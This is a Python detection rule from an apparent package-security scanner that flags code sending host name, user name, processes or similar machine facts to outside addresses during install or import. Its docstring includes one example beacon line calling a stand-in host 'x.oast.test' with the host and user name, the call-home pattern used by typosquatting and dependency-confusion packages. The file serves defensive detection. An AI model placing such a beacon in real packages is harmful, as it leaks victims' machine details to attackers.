"""What it sees
    Who and where the victim is (host name, user name, working directory, addresses, the output of `whoami`, `ps`,
    `ipconfig`) in a request, a socket or a DNS name, most of all while a package is being installed or imported.

Why it matters
    It is the call home of dependency-confusion and typosquatting packages: the author learns which company's build
    machine took the bait. The same shape registers a victim with a command server.

Example
    requests.get("https://x.oast.test/", params={"h": socket.gethostname(), "u": getpass.getuser()})

What to do
    Do not install it. If it was installed, assume that host and user name are known outside, and look for what came
    next.

False alarms
    Telemetry sends such facts when a program is used; that alone is context here. A single fact at import time is
    reported with less confidence.

References
    ATT&CK T1082 (System Information Discovery), T1033, T1041, T1071.004 (DNS).
"""

from collections.abc import Iterator

from lazaretto.detect.pycode import Place, Sending, defanged, once, sendings
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.py_words import terms
from lazaretto.parse.python import PythonModule

_SENT = N_("sends facts about this machine ({facts}) to {address}")
_SENT_AWAY = N_("sends facts about this machine ({facts}) away")
_NAMES = {
    "host:name": "host name", "host:user": "user name", "host:cwd": "working directory", "host:ip": "addresses",
    "host:mac": "hardware address", "host:files": "names of files", "host:processes": "processes",
}  # fmt: skip
_LISTINGS = terms(b"listdir", b"os.walk")


def check(view: PythonModule) -> Iterator[Match]:
    """Yield sendings of host facts, one a line."""
    if not view.speaks("net") or not (view.speaks("host") or (view.is_setup and view.mentions(_LISTINGS))):
        return
    seen: set[object] = set()
    for sending in sendings(view):
        kinds = set(sending.hosts)
        if "cmd" in sending.tags and sending.how != "command" and "net" not in sending.tags:
            kinds.add("host:output")
        if "host:files" in sending.tags and view.is_setup and sending.place > Place.LOCAL:
            kinds.add("host:files")
        if sending.place is Place.LOCAL or not kinds or "envall" in sending.tags:
            continue
        if sending.how in {"command", "dns"} and sending.place is Place.UNKNOWN:
            continue
        grade = _grade(view, sending, kinds)
        if not once(seen, sending.call.line):
            continue
        yield Match(
            _SENT if sending.place else _SENT_AWAY,
            sending.call.line,
            sending.call.column,
            params={
                "facts": ", ".join(sorted(_NAMES.get(k, "command output") for k in kinds)),
                "address": defanged(sending.address),
            },
            excerpt=view.quote(sending.call.line),
            severity=grade[0],
            confidence=grade[1],
            phase=view.phase(sending.call.scope),
            layers=sending.call.layers,
        )


def _grade(view: PythonModule, sending: Sending, kinds: set[str]) -> tuple[Severity, Confidence]:
    if sending.place is Place.DROP or sending.how == "dns":
        return Severity.HIGH, Confidence.HIGH if not view.is_test else Confidence.MEDIUM
    known = sending.place > Place.UNKNOWN
    if view.is_setup and view.unasked(sending.call.scope) and (known or len(kinds) > 1):
        return Severity.HIGH, Confidence.HIGH
    if view.unasked(sending.call.scope) and known:
        strong = len(kinds) > 1 or sending.place >= Place.SHARED or {"lit", "dec:base64"} <= sending.tags
        return (Severity.HIGH, Confidence.HIGH) if strong else (Severity.MEDIUM, Confidence.MEDIUM)
    if len(kinds) > 2 and sending.place >= Place.BARE:
        return Severity.MEDIUM, Confidence.MEDIUM
    return Severity.LOW, Confidence.MEDIUM


RULE = Rule(
    id="py/host-data-sent",
    title=N_("Sends facts about the machine away"),
    view=PythonModule,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    phase=Phase.RUN,
    role=Role.SEND,
    check=check,
    doc=__doc__ or "",
    techniques=("T1082", "T1041"),
)
